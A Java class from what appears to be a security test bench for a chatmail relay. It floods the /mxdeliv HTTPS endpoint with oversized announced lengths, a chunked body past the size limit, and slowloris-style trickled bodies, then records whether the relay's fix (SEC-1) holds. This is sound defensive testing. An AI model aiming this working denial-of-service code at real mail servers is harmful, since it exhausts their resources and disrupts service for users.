package chatmail.bench.hostile;

import java.io.IOException;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.util.Locale;

/**
 * {@code POST /mxdeliv} on port 443 (issue 11: it read up to 30 MB before it checked the
 * recipients): a length over {@code max_message_size} announced, a gigabyte announced for an
 * unknown recipient, a chunked body without a length that runs past the limit, and slow bodies
 * that announce 4 MiB and send 1000 bytes every two seconds.
 */
final class MxDelivAttack extends Attack {
    private final HostileTarget target;
    private final InetAddress quickSource;
    private final InetAddress slowSource;
    private final int slowWorkers;

    MxDelivAttack(HostileTarget target, InetAddress quickSource, InetAddress slowSource, int slowWorkers) {
        this.target = target;
        this.quickSource = quickSource;
        this.slowSource = slowSource;
        this.slowWorkers = slowWorkers;
    }

    @Override
    String name() {
        return "/mxdeliv oversized or slow";
    }

    @Override
    void start() {
        // A round sends 30 MiB; one every 5 s is the bench's bandwidth budget (see SmtpBodyAttack).
        loop("mxdeliv-quick", 5000, this::quick);
        for (int i = 0; i < slowWorkers; i++) {
            loop("mxdeliv-slow-" + i, 1000, this::slow);
        }
    }

    private void quick() throws Exception {
        post(target.victim(), "Content-Length: " + (target.maxMessageSize() + 1) + "\r\n", null);
        post("nobody001@" + target.domain(), "Content-Length: 1000000000\r\n", null);
        post(target.victim(), "Transfer-Encoding: chunked\r\n", this::chunkedPastTheLimit);
        tally.count("rounds of the three requests");
    }

    private void chunkedPastTheLimit(AttackSocket s) throws IOException {
        byte[] chunk = "z".repeat(64 * 1024).getBytes(StandardCharsets.US_ASCII);
        byte[] size = (Integer.toHexString(chunk.length) + "\r\n").getBytes(StandardCharsets.US_ASCII);
        for (long sent = 0; sent <= target.maxMessageSize(); sent += chunk.length) {
            s.write(size);
            s.write(chunk);
            s.write("\r\n");
        }
        s.write("0\r\n\r\n");
    }

    @FunctionalInterface
    private interface Body {
        void send(AttackSocket s) throws IOException;
    }

    private void post(String recipient, String lengthHeader, Body body) throws IOException {
        AttackSocket s = held(AttackSocket.tls(target.tls(), quickSource, target.host(), target.https(), 120_000));
        try {
            s.write("POST /mxdeliv HTTP/1.1\r\nHost: " + target.domain() + "\r\nX-MAIL-TO: " + recipient + "\r\n"
                    + lengthHeader + "Connection: close\r\n\r\n");
            if (body != null) {
                try {
                    body.send(s);
                } catch (IOException e) {
                    // The relay may answer and close before the whole body is sent; its answer is what counts.
                    tally.count("bodies cut short by the relay's answer");
                }
            }
            tally.reply(answer(s));
        } finally {
            release(s);
        }
    }

    private void slow() throws Exception {
        AttackSocket s = held(AttackSocket.tls(target.tls(), slowSource, target.host(), target.https(), 0));
        try {
            s.write("POST /mxdeliv HTTP/1.1\r\nHost: " + target.domain() + "\r\nX-MAIL-TO: " + target.victim() + "\r\n"
                    + "Content-Length: " + 4 * 1048576 + "\r\n\r\n");
            tally.count("slow bodies started");
            byte[] piece = "w".repeat(1000).getBytes(StandardCharsets.US_ASCII);
            while (running) {
                s.write(piece);
                tally.add("slow body bytes sent", piece.length);
                pause(2000);
            }
        } catch (IOException e) {
            if (running) {
                tally.count("slow bodies ended by the relay");
                s.timeout(5000);
                try {
                    tally.reply(answer(s));
                } catch (IOException ignored) {
                    tally.reply(null);
                }
            }
        } finally {
            release(s);
        }
    }

    /** {@code status body} of one HTTP answer with a Content-Length; null when the connection closed first. */
    private static String answer(AttackSocket s) throws IOException {
        String status = s.line();
        if (status == null) {
            return null;
        }
        int length = 0;
        String h;
        while ((h = s.line()) != null && !h.isEmpty()) {
            if (h.toLowerCase(Locale.ROOT).startsWith("content-length:")) {
                length = Integer.parseInt(h.substring(h.indexOf(':') + 1).trim());
            }
        }
        String body = new String(s.read(Math.min(length, 4096)), StandardCharsets.UTF_8).strip();
        String[] parts = status.split(" ", 3);
        return "HTTP " + (parts.length > 1 ? parts[1] : status) + " " + body;
    }

    @Override
    Row row() {
        return new Row(name() + ": Content-Length max_message_size + 1; 1 GB announced for an unknown recipient; "
                + "a chunked body past max_message_size (a round every 5 s); " + slowWorkers + " bodies announcing 4 MiB, 1000 bytes every 2 s",
                "SEC-1: recipients and announced length checked before the body is read; body spooled beyond 64 KiB "
                        + "and counted as it arrives; max_message_size = 31457280; per-client shares of max_https_connections",
                tally.replies(), counterLines());
    }
}
